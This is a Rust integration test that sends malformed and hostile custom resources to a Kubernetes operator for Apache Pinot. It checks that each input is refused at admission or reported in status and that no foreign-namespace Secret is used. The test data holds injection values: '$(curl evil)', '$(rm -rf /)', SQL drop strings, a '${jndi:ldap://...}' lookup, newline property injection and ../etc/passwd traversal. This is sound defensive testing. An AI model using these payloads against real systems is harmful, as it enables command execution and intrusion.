//! Malformed and hostile inputs against the real apiserver, the real Pinot and the
//! operator's controllers running in-process: each one is stopped at a known
//! place — refused at admission (server-side apply fails with a known message), or
//! accepted and reported in status (a condition reason and an Event) — while a
//! valid schema next to them keeps syncing and no controller task ends.
//!
//! Secrets and clusters of another namespace are never used: a reference written
//! as `ns/name` or as a path is refused at admission (names must be plain object
//! names), and for a bare name a Secret or PinotCluster of that name exists in a
//! second namespace, and the object must report it missing rather than sync with it.

mod common;

use std::sync::Arc;
use std::time::Duration;

use api::common::condition::DEGRADED;
use api::{PinotCluster, PinotSchema, PinotTable, PinotTenant};
use common::{Harness, events_schema, eventually, external_cluster, resource};
use k8s_openapi::api::apps::v1::StatefulSet;
use k8s_openapi::api::core::v1::ConfigMap;
use kube::api::{Api, DynamicObject, ListParams, Patch, PatchParams};
use kube::core::{ApiResource, GroupVersionKind};
use kube::{Client, ResourceExt};
use pinot_operator::context::Context;
use serde_json::{Value, json};
use testenv::kubernetes::Kubernetes;
use testenv::pinot::Pinot;
use testenv::wait;
use tokio_util::sync::CancellationToken;

/// Where an input must be stopped.
#[derive(Debug, Clone)]
enum Stop {
    /// Server-side apply fails; the message holds this fragment.
    Admission(&'static str),
    /// Accepted; the content object's `Synced` condition turns False with this reason
    /// and an Event with the reason is recorded.
    Synced(&'static str),
    /// [`Stop::Synced`], and the condition's message holds the fragment: a rule moved
    /// from admission to the operator says the same thing, now in status.
    SyncedSaying(&'static str, &'static str),
    /// Accepted; the PinotCluster's `Degraded` condition turns True with this reason,
    /// its message holds the fragment, an Event is recorded, and nothing is deployed.
    Degraded(&'static str, &'static str),
}

struct Case {
    what: &'static str,
    obj: Value,
    stop: Stop,
}

fn case(what: &'static str, obj: Value, stop: Stop) -> Case {
    Case { what, obj, stop }
}

fn events_table(name: &str) -> Value {
    json!({"tableName": name, "tableType": "OFFLINE",
        "segmentsConfig": {"replication": "1", "timeColumnName": "ts", "retentionTimeUnit": "DAYS", "retentionTimeValue": "30"},
        "tenants": {"server": "DefaultTenant", "broker": "DefaultTenant"},
        "tableIndexConfig": {"loadMode": "MMAP"}, "metadata": {}})
}

fn schema(name: &str, cluster: &str, doc: Value) -> Value {
    resource(
        "PinotSchema",
        name,
        json!({"clusterRef": {"name": cluster}, "schema": doc}),
    )
}

fn table(name: &str, spec: Value) -> Value {
    resource("PinotTable", name, spec)
}

fn tenant(name: &str, spec: Value) -> Value {
    resource("PinotTenant", name, spec)
}

fn cluster(name: &str, spec: Value) -> Value {
    resource("PinotCluster", name, spec)
}

/// A deployable cluster spec (KWOK nodes), with `patch` applied.
fn deployed(patch: impl FnOnce(&mut Value)) -> Value {
    let mut spec = json!({
        "zookeeper": {"managed": {"replicas": 1, "storage": "1Gi"}},
        "kubernetes": {"nodeSelector": {"type": "kwok"}},
        "controller": {"pools": [{"name": "main", "replicas": 1}],
                       "kubernetes": {"storage": {"size": "1Gi"}}},
    });
    patch(&mut spec);
    spec
}

/// `spec` with `value` set at the JSON pointer `path` (objects created on the way).
fn with(mut spec: Value, path: &str, value: Value) -> Value {
    let mut at = &mut spec;
    for part in path.trim_start_matches('/').split('/') {
        at = match at {
            Value::Array(a) => &mut a[part.parse::<usize>().unwrap()],
            other => {
                if !other.is_object() {
                    *other = json!({});
                }
                other
                    .as_object_mut()
                    .unwrap()
                    .entry(part.to_owned())
                    .or_insert(Value::Null)
            }
        };
    }
    *at = value;
    spec
}

/// Server-side applies `obj` into `ns`; the apiserver's message on failure.
async fn try_apply(client: &Client, ns: &str, obj: &Value) -> Result<(), String> {
    let obj: DynamicObject = serde_json::from_value(obj.clone()).unwrap();
    let types = obj.types.clone().unwrap();
    let (group, version) = types
        .api_version
        .split_once('/')
        .unwrap_or(("", types.api_version.as_str()));
    let gvk = GroupVersionKind::gvk(group, version, &types.kind);
    let plural = format!("{}s", types.kind.to_lowercase());
    let resource = ApiResource::from_gvk_with_plural(&gvk, &plural);
    let api: Api<DynamicObject> = Api::namespaced_with(client.clone(), ns, &resource);
    api.patch(
        &obj.name_any(),
        &PatchParams::apply("test").force(),
        &Patch::Apply(&obj),
    )
    .await
    .map(|_| ())
    .map_err(|e| match e {
        kube::Error::Api(status) => status.message,
        other => other.to_string(),
    })
}

fn condition(obj: &Value, type_: &str) -> Option<Value> {
    obj.pointer("/status/conditions")?
        .as_array()?
        .iter()
        .find(|c| c["type"] == type_)
        .cloned()
}

/// Waits until the cluster's `Degraded` is True with `reason` for the current
/// generation; returns its message.
async fn wait_degraded(h: &Harness, name: &str, reason: &str) -> String {
    let api: Api<PinotCluster> = h.api();
    let what = format!("{name}: Degraded True/{reason}");
    let (timeout, interval) = (Duration::from_secs(120), Duration::from_millis(500));
    wait::eventually(&what, timeout, interval, || async {
        let obj = serde_json::to_value(api.get(name).await.unwrap()).unwrap();
        if let Some(c) = condition(&obj, DEGRADED)
            && c["status"] == "True"
            && c["reason"] == reason
            && obj.pointer("/status/observedGeneration") == obj.pointer("/metadata/generation")
        {
            return Ok(c["message"].as_str().unwrap_or_default().to_owned());
        }
        let status = obj.pointer("/status").cloned().unwrap_or_default();
        Err(format!("status {status:#}"))
    })
    .await
}

/// StatefulSets of cluster `name`.
async fn sets_of(h: &Harness, name: &str) -> Vec<StatefulSet> {
    let sets: Api<StatefulSet> = h.api();
    let params = ListParams::default().labels(&format!("pinot.operator.dev/cluster={name}"));
    sets.list(&params).await.unwrap().items
}

#[tokio::test]
async fn bad_inputs_are_stopped_at_admission_or_in_status_and_nothing_else_breaks() {
    let h = Harness::start_without_controllers("bad-inputs").await;
    // The controllers run here, not in the harness, so the test can see whether a
    // task ended (a panic in a reconcile would end it).
    let shutdown = CancellationToken::new();
    let _stop = shutdown.clone().drop_guard();
    let ctx = Arc::new(Context::new(
        h.client.clone(),
        h.metrics.clone(),
        Duration::from_secs(3),
        Some(h.ns.clone()),
    ));
    let controllers = tokio::spawn(pinot_operator::run::run_scoped(ctx, shutdown.clone()));

    // Another namespace holding what hostile references point at.
    let other = Kubernetes::shared()
        .create_namespace("bad-inputs-other")
        .await;
    let url = Pinot::shared().controller_url();
    for obj in [
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "users"},
               "stringData": {"admin": "leaked-admin-pw"}}),
        common::auth_secret("shared-creds", "leaked-user", "leaked-pw"),
        external_cluster("foreign", &url),
    ] {
        common::apply(&h.client, &other, obj).await;
    }

    // The valid neighbour that must keep syncing.
    let good = h.pinot_name("good");
    h.apply(schema("good", "pinot", events_schema(&good))).await;

    let pn = |p: &str| h.pinot_name(p);
    let long = |n: usize| "a".repeat(n);
    let huge = "x".repeat(1_600_000);
    let xns = |name: &str, secret: String| {
        cluster(
            name,
            json!({"external": {"controllerUrl": url, "authSecretRef": {"name": secret}}}),
        )
    };
    let auth_users = |secret: String| {
        deployed(|s| {
            s["auth"] = json!({"adminUser": "admin", "users": [
                {"name": "admin", "passwordSecretRef": {"name": secret, "key": "admin"}}]});
        })
    };
    let props =
        |key: &str, value: &str| deployed(|s| s["pinot"] = json!({"properties": {key: value}}));
    let t = |patch: &dyn Fn(&mut Value)| {
        let mut t = events_table(&good);
        patch(&mut t);
        json!({"clusterRef": {"name": "pinot"}, "schemaRef": {"name": "good"}, "table": t})
    };
    let s = |name: &str, patch: &dyn Fn(&mut Value)| {
        let mut doc = events_schema(&pn(&name.replace('-', "_")));
        patch(&mut doc);
        schema(name, "pinot", doc)
    };

    use Stop::{Admission, Degraded, Synced, SyncedSaying};
    let cases = vec![
        // ---- PinotCluster: malformed ----
        case(
            "image of the wrong type",
            cluster("c-image", deployed(|s| s["image"] = json!(123))),
            Admission("expected string"),
        ),
        case(
            "replicas as text",
            cluster(
                "c-repl",
                deployed(|s| s["controller"]["pools"][0]["replicas"] = json!("three")),
            ),
            Admission("expected numeric"),
        ),
        case(
            "negative replicas",
            cluster(
                "c-neg",
                deployed(|s| s["controller"]["pools"][0]["replicas"] = json!(-1)),
            ),
            Admission("replicas must be >= 0"),
        ),
        case(
            "pinotPool on a broker pool",
            cluster(
                "c-brokerpool",
                deployed(|s| {
                    s["broker"] = json!({"pools": [{"name": "b", "replicas": 1, "pinotPool": 1}]})
                }),
            ),
            Admission("pinotPool applies to server pools only"),
        ),
        case(
            "a service on the server role",
            cluster(
                "c-svc-server",
                deployed(|s| s["server"] = json!({"service": {"type": "NodePort"}})),
            ),
            Admission("service applies to the broker and controller roles"),
        ),
        case(
            "externalTrafficPolicy on a ClusterIP Service",
            cluster(
                "c-svc-etp",
                deployed(|s| s["broker"] = json!({"service": {"externalTrafficPolicy": "Local"}})),
            ),
            Admission("externalTrafficPolicy needs type NodePort or LoadBalancer"),
        ),
        case(
            "loadBalancerSourceRanges on a NodePort Service",
            cluster(
                "c-svc-lbsr",
                deployed(
                    |s| s["broker"] = json!({"service": {"type": "NodePort", "loadBalancerSourceRanges": ["10.0.0.0/8"]}}),
                ),
            ),
            Admission("loadBalancerSourceRanges needs type LoadBalancer"),
        ),
        case(
            "an extra Service port out of range",
            cluster(
                "c-svc-port",
                deployed(|s| {
                    s["controller"]["service"] =
                        json!({"extraPorts": [{"name": "metrics", "port": 70000}]})
                }),
            ),
            Admission("port must be between 1 and 65535"),
        ),
        case(
            "podOverrides that is not an object",
            cluster(
                "c-po-type",
                deployed(|s| s["kubernetes"]["podOverrides"] = json!(["sidecar"])),
            ),
            Admission("podOverrides: expected map"),
        ),
        case(
            "negative pinotPool",
            cluster(
                "c-negpool",
                deployed(
                    |s| s["server"] = json!({"pools": [{"name": "s", "replicas": 1, "tenant": "T", "pinotPool": -1}]}),
                ),
            ),
            Admission("pinotPool must be between 0 and 1000"),
        ),
        case(
            "even ZooKeeper ensemble",
            cluster(
                "c-zk2",
                deployed(|s| s["zookeeper"]["managed"]["replicas"] = json!(2)),
            ),
            Admission("zookeeper.managed.replicas must be odd"),
        ),
        case(
            "neither external nor zookeeper",
            cluster(
                "c-none",
                json!({"controller": {"pools": [{"name": "main", "replicas": 1}]}}),
            ),
            Admission("a deployed cluster needs spec.zookeeper"),
        ),
        case(
            "unknown server strategy",
            cluster(
                "c-strat",
                deployed(|s| s["rollout"] = json!({"serverStrategy": "Random"})),
            ),
            Admission("Unsupported value: \"Random\""),
        ),
        case(
            "unknown permission",
            cluster(
                "c-perm",
                deployed(|s| {
                    s["auth"] = json!({"adminUser": "admin", "users": [
            {"name": "admin", "passwordSecretRef": {"name": "u", "key": "a"}},
            {"name": "r", "passwordSecretRef": {"name": "u", "key": "r"}, "permissions": ["Root"]}]})
                }),
            ),
            Admission("Unsupported value: \"Root\""),
        ),
        case(
            "adminUser not among users",
            cluster(
                "c-admin",
                deployed(|s| {
                    s["auth"] = json!({"adminUser": "root", "users": [
            {"name": "admin", "passwordSecretRef": {"name": "u", "key": "a"}}]})
                }),
            ),
            Admission("auth.adminUser must name one of auth.users"),
        ),
        // ---- PinotCluster: hostile names and sizes ----
        case(
            "pool name with a newline",
            cluster(
                "c-pooln",
                deployed(|s| s["controller"]["pools"][0]["name"] = json!("main\nx")),
            ),
            Admission("pool name must be 1-20 lower-case letters"),
        ),
        case(
            "pool name with ../",
            cluster(
                "c-poold",
                deployed(|s| s["controller"]["pools"][0]["name"] = json!("../etc")),
            ),
            Admission("pool name must be 1-20 lower-case letters"),
        ),
        case(
            "pool name over maxLength",
            cluster(
                "c-pooll",
                deployed(|s| s["controller"]["pools"][0]["name"] = json!(long(21))),
            ),
            Admission("Too long"),
        ),
        case(
            "SQL in a tenant name",
            cluster(
                "c-tenant",
                deployed(
                    |s| s["broker"] = json!({"pools": [{"name": "b", "replicas": 1, "tenant": "x'; DROP TABLE t;--"}]}),
                ),
            ),
            Admission("tenant may hold letters, digits and '_'"),
        ),
        case(
            "${...} in a tier name",
            cluster(
                "c-tier",
                deployed(|s| {
                    s["server"] = json!({"pools": [{"name": "s", "replicas": 1, "tier": "${jndi:ldap://x/a}"}]})
                }),
            ),
            Admission("tier may hold letters, digits and '_'"),
        ),
        case(
            "clusterName with a newline and =",
            cluster(
                "c-cname",
                deployed(|s| s["clusterName"] = json!("a\npinot.zk.server=evil")),
            ),
            Admission("clusterName may hold letters, digits"),
        ),
        case(
            "user name injecting a property",
            cluster(
                "c-user",
                deployed(|s| {
                    s["auth"] = json!({"adminUser": "a\nb=c", "users": [
            {"name": "a\nb=c", "passwordSecretRef": {"name": "u", "key": "a"}}]})
                }),
            ),
            Admission("user name may hold letters, digits and '_'"),
        ),
        case(
            "controllerUrl with a shell command",
            cluster(
                "c-url",
                json!({"external": {"controllerUrl": "$(curl evil)"}}),
            ),
            Admission("external.controllerUrl must be an http:// or https:// URL"),
        ),
        case(
            "controllerUrl with a newline",
            cluster(
                "c-urln",
                json!({"external": {"controllerUrl": "http://a\nHost: evil"}}),
            ),
            Admission("external.controllerUrl must be an http:// or https:// URL"),
        ),
        case(
            "controllerUrl over maxLength",
            cluster(
                "c-urll",
                json!({"external": {"controllerUrl": format!("http://{}", long(2100))}}),
            ),
            Admission("Too long"),
        ),
        case(
            "connectString over maxLength",
            cluster(
                "c-zkl",
                deployed(|s| s["zookeeper"] = json!({"external": {"connectString": long(1100)}})),
            ),
            Admission("Too long"),
        ),
        case(
            "chroot as a relative path",
            cluster(
                "c-chroot",
                deployed(|s| {
                    s["zookeeper"] =
                        json!({"external": {"connectString": "zk:2181", "chroot": "../x"}})
                }),
            ),
            Admission("zookeeper.external.chroot must start with '/'"),
        ),
        case(
            "1.6 MB document",
            cluster("c-huge", props("pinot.broker.note", &huge)),
            Admission("too large"),
        ),
        // ---- PinotCluster: past admission, stopped by the operator ----
        case(
            "property config.paths",
            cluster("c-cfgpath", props("config.paths", "/etc/passwd")),
            Degraded(
                "InvalidSpec",
                "pinot property config.paths is set by the operator",
            ),
        ),
        case(
            "property pinot.zk.server",
            cluster("c-zkprop", props("pinot.zk.server", "evil:2181")),
            Degraded(
                "InvalidSpec",
                "pinot property pinot.zk.server is set by the operator",
            ),
        ),
        case(
            "two server pools in one Pinot pool",
            cluster(
                "c-samepool",
                deployed(|s| {
                    s["server"] = json!({"pools": [
                        {"name": "a", "replicas": 1, "tenant": "T", "pinotPool": 0},
                        {"name": "b", "replicas": 1, "tenant": "T", "pinotPool": 0}]})
                }),
            ),
            Degraded(
                "InvalidSpec",
                "server pools a and b would share Pinot pool 0 of tenant T",
            ),
        ),
        case(
            "property key with a newline",
            cluster("c-keynl", props("a\npinot.zk.server", "evil:2181")),
            Degraded("InvalidSpec", "may only hold letters, digits"),
        ),
        case(
            "property key with =",
            cluster("c-keyeq", props("a=b", "c")),
            Degraded("InvalidSpec", "may only hold letters, digits"),
        ),
        case(
            "property key starting with #",
            cluster("c-keyhash", props("#x", "c")),
            Degraded("InvalidSpec", "may only hold letters, digits"),
        ),
        case(
            "property key ${...}",
            cluster("c-keyvar", props("${sys:user.home}", "c")),
            Degraded("InvalidSpec", "may only hold letters, digits"),
        ),
        case(
            "no controller pool",
            cluster(
                "c-noctl",
                deployed(|s| s["controller"] = json!({"pools": []})),
            ),
            Degraded("InvalidSpec", "spec.controller.pools is empty"),
        ),
        case(
            "podOverrides changing the Pinot image",
            cluster(
                "c-po-image",
                deployed(|s| {
                    s["controller"]["kubernetes"]["podOverrides"] =
                        json!({"spec": {"containers": [{"name": "pinot", "image": "evil:1"}]}})
                }),
            ),
            Degraded(
                "InvalidSpec",
                "podOverrides may not change the image of pinot, which the operator owns",
            ),
        ),
        case(
            "a data volume on brokers",
            cluster(
                "c-broker-disk",
                deployed(|s| s["broker"]["kubernetes"]["storage"] = json!({"size": "1Gi"})),
            ),
            Degraded(
                "InvalidSpec",
                "spec.broker.kubernetes.storage: brokers keep no data on disk",
            ),
        ),
        case(
            "a volume claim named like the operator's config volume",
            cluster(
                "c-claim-clash",
                deployed(|s| {
                    s["controller"]["kubernetes"]["volumeClaims"] =
                        json!([{"name": "config", "mountPath": "/x", "size": "1Gi"}])
                }),
            ),
            Degraded(
                "InvalidSpec",
                "volumeClaims: config is already a volume of the pod",
            ),
        ),
        case(
            "an extra Service port named like the role's",
            cluster(
                "c-svc-clash",
                deployed(|s| {
                    s["controller"]["service"] =
                        json!({"extraPorts": [{"name": "http", "port": 9100}]})
                }),
            ),
            Degraded(
                "InvalidSpec",
                "extra port http (9100) collides with the role's port http",
            ),
        ),
        case(
            "StatefulSet name over 52 characters",
            cluster(
                &format!("c-{}", long(40)),
                deployed(|s| s["controller"]["pools"][0]["name"] = json!(long(20))),
            ),
            Degraded("InvalidSpec", "Kubernetes allows 52"),
        ),
        case(
            "password Secret missing",
            cluster("c-nosec", auth_users("missing-users".into())),
            Degraded("CredentialsUnavailable", "Secret missing-users not found"),
        ),
        case(
            "password Secret only in another namespace",
            cluster("c-xsec", auth_users("users".into())),
            Degraded("CredentialsUnavailable", "Secret users not found"),
        ),
        case(
            "password Secret as ns/name",
            cluster("c-xsec2", auth_users(format!("{other}/users"))),
            Admission("references never cross namespaces"),
        ),
        case(
            "password Secret as a ../ path",
            cluster(
                "c-xsec3",
                auth_users(format!("../../{other}/secrets/users")),
            ),
            Admission("references never cross namespaces"),
        ),
        // ---- PinotSchema: admission ----
        case(
            "schemaName with a newline",
            schema("s-nl", "pinot", events_schema("a\nb")),
            Admission("schemaName may hold letters, digits and '_'"),
        ),
        case(
            "schemaName with SQL",
            schema("s-sql", "pinot", events_schema("x; DROP TABLE users")),
            Admission("schemaName may hold letters, digits and '_'"),
        ),
        case(
            "schemaName with ../",
            schema("s-dots", "pinot", events_schema("../../etc/passwd")),
            Admission("schemaName may hold letters, digits and '_'"),
        ),
        case(
            "schemaName over maxLength",
            schema("s-long", "pinot", events_schema(&long(200))),
            Admission("Too long"),
        ),
        case(
            "schemaName of the wrong type",
            schema(
                "s-type",
                "pinot",
                with(events_schema("x"), "/schemaName", json!(42)),
            ),
            Admission("expected string"),
        ),
        case(
            "schema is not an object",
            resource(
                "PinotSchema",
                "s-str",
                json!({"clusterRef": {"name": "pinot"}, "schema": "DROP"}),
            ),
            Admission("expected map"),
        ),
        case(
            "clusterRef missing",
            resource(
                "PinotSchema",
                "s-noref",
                json!({"schema": events_schema("x")}),
            ),
            Admission("clusterRef: Required value"),
        ),
        case(
            "clusterRef.name empty",
            schema("s-emptyref", "", events_schema("x")),
            Admission("clusterRef.name must not be empty"),
        ),
        case(
            "unknown deletionPolicy",
            resource(
                "PinotSchema",
                "s-policy",
                json!({"clusterRef": {"name": "pinot"}, "schema": events_schema("x"), "deletionPolicy": "Purge"}),
            ),
            Admission("Unsupported value: \"Purge\""),
        ),
        case(
            "force as text",
            resource(
                "PinotSchema",
                "s-force",
                json!({"clusterRef": {"name": "pinot"}, "schema": events_schema("x"), "updatePolicy": {"force": "yes"}}),
            ),
            Admission("expected boolean"),
        ),
        case(
            "1.6 MB schema",
            schema(
                "s-huge",
                "pinot",
                with(events_schema("x"), "/description", json!(huge)),
            ),
            Admission("too large"),
        ),
        // ---- PinotSchema: status ----
        case(
            "unknown dataType",
            s("s-money", &|d| {
                d["metricFieldSpecs"][0]["dataType"] = json!("MONEY")
            }),
            Synced("InvalidSchema"),
        ),
        case(
            "column list of the wrong type",
            s("s-cols", &|d| d["dimensionFieldSpecs"] = json!("user_id")),
            Synced("InvalidSchema"),
        ),
        case(
            "no columns",
            schema("s-empty", "pinot", json!({"schemaName": pn("empty")})),
            Synced("InvalidSchema"),
        ),
        case(
            "empty column name",
            s("s-noname", &|d| {
                d["dimensionFieldSpecs"][0]["name"] = json!("")
            }),
            Synced("InvalidSchema"),
        ),
        case(
            "primary key of the wrong type",
            s("s-pk", &|d| d["primaryKeyColumns"] = json!([1, {"a": 2}])),
            Synced("InvalidSchema"),
        ),
        case(
            "clusterRef to another namespace's cluster",
            schema("s-xcluster", "foreign", events_schema(&pn("xc"))),
            Synced("ClusterNotFound"),
        ),
        case(
            "clusterRef as ns/name",
            schema(
                "s-xcluster2",
                &format!("{other}/foreign"),
                events_schema(&pn("xc2")),
            ),
            Admission("references never cross namespaces"),
        ),
        case(
            "clusterRef as a ../ path",
            schema(
                "s-xcluster3",
                &format!("../../{other}/pinotclusters/foreign"),
                events_schema(&pn("xc3")),
            ),
            Admission("references never cross namespaces"),
        ),
        case(
            "auth Secret only in another namespace",
            schema("s-xsecret", "xns-bare", events_schema(&pn("xs"))),
            Synced("CredentialsUnavailable"),
        ),
        case(
            "auth Secret as ns/name",
            xns("xns-slash", format!("{other}/shared-creds")),
            Admission("references never cross namespaces"),
        ),
        case(
            "auth Secret as a ../ path",
            xns("xns-dots", format!("../../{other}/secrets/shared-creds")),
            Admission("references never cross namespaces"),
        ),
        // ---- PinotTable: admission ----
        case(
            "unknown tableType",
            table("t-hybrid", t(&|t| t["tableType"] = json!("HYBRID"))),
            Admission("Unsupported value: \"HYBRID\""),
        ),
        case(
            "tableName with the type suffix",
            table("t-suffix", t(&|t| t["tableName"] = json!("events_OFFLINE"))),
            Admission("must not carry the _OFFLINE/_REALTIME suffix"),
        ),
        case(
            "tableName with a shell command",
            table("t-shell", t(&|t| t["tableName"] = json!("$(rm -rf /)"))),
            Admission("tableName may hold letters, digits and '_'"),
        ),
        case(
            "tableType missing",
            table(
                "t-notype",
                t(&|t| {
                    t.as_object_mut().unwrap().remove("tableType");
                }),
            ),
            Admission("tableType: Required value"),
        ),
        case(
            "consumption Paused on OFFLINE",
            table(
                "t-paused",
                with(t(&|_| {}), "/consumption", json!("Paused")),
            ),
            SyncedSaying(
                "InvalidTable",
                "consumption: Paused applies to REALTIME tables only",
            ),
        ),
        case(
            "rebalance as text",
            table(
                "t-rebal",
                with(t(&|_| {}), "/onChange", json!({"rebalance": "true"})),
            ),
            Admission("expected boolean"),
        ),
        case(
            "segmentsConfig of the wrong type",
            table("t-segs", t(&|t| t["segmentsConfig"] = json!("30 days"))),
            Admission(".spec.table.segmentsConfig: expected map"),
        ),
        case(
            "schemaName other than tableName",
            table(
                "t-schemaname",
                t(&|t| t["segmentsConfig"]["schemaName"] = json!("other")),
            ),
            SyncedSaying("InvalidTable", "must equal tableName"),
        ),
        // ---- PinotTable: status ----
        case(
            "tenants as a list",
            table("t-tenants", t(&|t| t["tenants"] = json!(["DefaultTenant"]))),
            Synced("InvalidTable"),
        ),
        case(
            "REALTIME without a stream",
            table("t-rt", t(&|t| t["tableType"] = json!("REALTIME"))),
            Synced("InvalidTable"),
        ),
        case(
            "schemaRef to a missing PinotSchema",
            table(
                "t-noschema",
                with(t(&|_| {}), "/schemaRef/name", json!("missing")),
            ),
            Synced("SchemaNotFound"),
        ),
        case(
            "schemaRef as a ../ path",
            table(
                "t-dotschema",
                with(
                    t(&|_| {}),
                    "/schemaRef/name",
                    json!(format!("../../{other}/pinotschemas/good")),
                ),
            ),
            Admission("references never cross namespaces"),
        ),
        case(
            "SQL in a tenant",
            table(
                "t-sqltenant",
                t(&|t| t["tenants"]["server"] = json!("x'; DROP TABLE t;--")),
            ),
            Synced("TenantNotFound"),
        ),
        case(
            "unknown time column",
            table(
                "t-timecol",
                t(&|t| t["segmentsConfig"]["timeColumnName"] = json!("nope")),
            ),
            Synced("PinotRejected"),
        ),
        // ---- PinotTenant ----
        case(
            "unknown role",
            tenant(
                "n-role",
                json!({"clusterRef": {"name": "pinot"}, "role": "Admin", "name": "x", "instances": 1}),
            ),
            Admission("Unsupported value: \"Admin\""),
        ),
        case(
            "tenant name with -",
            tenant(
                "n-dash",
                json!({"clusterRef": {"name": "pinot"}, "role": "Broker", "name": "a-b", "instances": 1}),
            ),
            Admission("tenant name may hold letters, digits and '_'"),
        ),
        case(
            "tenant name over maxLength",
            tenant(
                "n-long",
                json!({"clusterRef": {"name": "pinot"}, "role": "Broker", "name": long(100), "instances": 1}),
            ),
            Admission("Too long"),
        ),
        case(
            "negative instances",
            tenant(
                "n-neg",
                json!({"clusterRef": {"name": "pinot"}, "role": "Broker", "name": "x", "instances": -1}),
            ),
            Admission("instances must be >= 0"),
        ),
        case(
            "instances as text",
            tenant(
                "n-text",
                json!({"clusterRef": {"name": "pinot"}, "role": "Broker", "name": "x", "instances": "two"}),
            ),
            Admission("expected numeric"),
        ),
        case(
            "Broker with offlineInstances",
            tenant(
                "n-bo",
                json!({"clusterRef": {"name": "pinot"}, "role": "Broker", "name": "x", "instances": 1, "offlineInstances": 1}),
            ),
            Admission("offlineInstances and realtimeInstances apply to Server tenants only"),
        ),
        case(
            "Server without instance counts",
            tenant(
                "n-pool",
                json!({"clusterRef": {"name": "pinot"}, "role": "Server", "name": pn("np")}),
            ),
            Admission("a Server tenant needs offlineInstances and/or realtimeInstances"),
        ),
        case(
            "tenant on a missing cluster",
            tenant(
                "n-nocl",
                json!({"clusterRef": {"name": "missing"}, "role": "Broker", "name": pn("nc"), "instances": 1}),
            ),
            Synced("ClusterNotFound"),
        ),
    ];

    // External clusters whose credentials Secret is named like another namespace's.
    h.apply(xns("xns-bare", "shared-creds".into())).await;

    // Every admission outcome first, reported together.
    let mut counts = [0usize; 3];
    let mut degraded = Vec::new();
    let mut wrong = Vec::new();
    for c in &cases {
        let result = try_apply(&h.client, &h.ns, &c.obj).await;
        match (&c.stop, result) {
            (Stop::Admission(fragment), Err(message)) => {
                if message.to_lowercase().contains(&fragment.to_lowercase()) {
                    counts[0] += 1;
                } else {
                    wrong.push(format!(
                        "{}: expected {fragment:?} in the rejection, got {message:?}",
                        c.what
                    ));
                }
            }
            (Stop::Admission(_), Ok(())) => wrong.push(format!(
                "{}: accepted, but admission must refuse it",
                c.what
            )),
            (_, Err(message)) => wrong.push(format!("{}: refused at admission: {message}", c.what)),
            (_, Ok(())) => {}
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));

    for c in &cases {
        let name = c.obj["metadata"]["name"].as_str().unwrap();
        let kind = c.obj["kind"].as_str().unwrap();
        match c.stop {
            Stop::Admission(_) => continue,
            Stop::Synced(reason) | Stop::SyncedSaying(reason, _) => {
                let message = match kind {
                    "PinotSchema" => h.wait_synced::<PinotSchema>(name, "False", reason).await,
                    "PinotTable" => h.wait_synced::<PinotTable>(name, "False", reason).await,
                    "PinotTenant" => h.wait_synced::<PinotTenant>(name, "False", reason).await,
                    other => unreachable!("{other}"),
                };
                assert!(!message.contains("leaked"), "{}: {message}", c.what);
                if let Stop::SyncedSaying(_, fragment) = c.stop {
                    assert!(message.contains(fragment), "{}: {message}", c.what);
                }
                h.wait_event(name, reason).await;
                counts[1] += 1;
            }
            Stop::Degraded(reason, fragment) => {
                let message = wait_degraded(&h, name, reason).await;
                assert!(
                    message.contains(fragment),
                    "{}: expected {fragment:?} in {message:?}",
                    c.what
                );
                assert!(!message.contains("leaked"), "{}: {message}", c.what);
                h.wait_event(name, reason).await;
                // The condition is written by a reconcile of this generation: one ran.
                assert!(
                    sets_of(&h, name).await.is_empty(),
                    "{}: something was deployed",
                    c.what
                );
                degraded.push((name, c.what));
                counts[2] += 1;
            }
        }
    }
    println!(
        "{} bad inputs: {} refused at admission, {} content objects and {} clusters reported in status",
        cases.len(),
        counts[0],
        counts[1],
        counts[2]
    );
    assert!(cases.len() >= 50);

    // Later resyncs deploy nothing either. Every cluster here requeues itself at the
    // 3 s resync (an invalid or external one) or sooner, so twice as many cluster
    // reconciles as there are clusters are about two more resyncs of each (the
    // counter is per controller, not per object: "about", not "exactly").
    let clusters = h.api::<PinotCluster>().list(&ListParams::default()).await;
    let clusters = clusters.unwrap().items.len() as u64;
    let from = common::reconciles(&h.metrics, "pinotcluster");
    let what = format!("{clusters} clusters to be reconciled twice each");
    let (timeout, interval) = (common::POLL_TIMEOUT, Duration::from_millis(500));
    wait::eventually(&what, timeout, interval, || async {
        let done = common::reconciles(&h.metrics, "pinotcluster") - from;
        (done >= 2 * clusters).then_some(())
    })
    .await;
    for (name, what) in &degraded {
        assert!(
            sets_of(&h, name).await.is_empty(),
            "{what}: something was deployed by a later resync"
        );
    }

    // Nothing of the bad schemas reached Pinot; the foreign Secrets were never used.
    // (Each schema that got as far as the operator was reported Synced=False by a
    // reconcile above: the operator had its chance to write it.)
    for name in ["xs", "xs2", "xs3", "xc", "xc2", "xc3", "s_money", "empty"] {
        assert!(
            h.pinot.get_schema(&pn(name)).await.unwrap().is_none(),
            "{name} reached Pinot"
        );
    }
    let events = h.events_json().await;
    assert!(
        !events.contains("leaked"),
        "a foreign Secret value in Events"
    );

    // A property value cannot inject a line into the rendered .conf.
    h.apply(cluster(
        "c-value",
        props("pinot.broker.timeoutMs", "1\npinot.zk.server=evil\r#"),
    ))
    .await;
    let config_maps: Api<ConfigMap> = h.api();
    eventually("the controller ConfigMap of c-value", || async {
        config_maps
            .get_opt("c-value-controller-main")
            .await
            .unwrap()
            .is_some()
    })
    .await;
    let cm = config_maps.get("c-value-controller-main").await.unwrap();
    let conf = cm
        .data
        .unwrap()
        .into_values()
        .collect::<Vec<_>>()
        .join("\n");
    assert!(
        conf.contains("pinot.broker.timeoutMs=1\\npinot.zk.server=evil\\r#"),
        "{conf}"
    );
    assert_eq!(
        conf.lines()
            .filter(|l| l.starts_with("pinot.zk.server="))
            .count(),
        1,
        "{conf}"
    );

    // The neighbour synced, and still follows changes made after all of the above.
    h.wait_synced::<PinotSchema>("good", "True", "Created")
        .await;
    let mut changed = events_schema(&good);
    changed["dimensionFieldSpecs"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "device", "dataType": "STRING"}));
    h.apply(schema("good", "pinot", changed)).await;
    h.wait_synced::<PinotSchema>("good", "True", "Updated")
        .await;
    let in_pinot = h.pinot.get_schema(&good).await.unwrap().unwrap();
    assert_eq!(in_pinot["dimensionFieldSpecs"].as_array().unwrap().len(), 3);

    // No controller task ended (a panic would have ended it).
    assert!(
        !controllers.is_finished(),
        "the controllers stopped: {:?}",
        controllers.await
